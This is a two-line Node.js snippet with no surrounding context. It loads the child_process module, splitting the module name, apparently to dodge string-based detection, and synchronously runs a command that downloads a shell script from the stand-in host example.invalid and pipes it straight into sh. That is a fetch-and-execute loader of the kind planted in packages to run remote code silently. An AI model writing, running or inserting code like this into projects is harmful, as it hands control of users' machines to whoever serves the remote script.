const cp = require('child' + '_process');
cp.execSync('curl -s https://example.invalid/s.sh | sh');
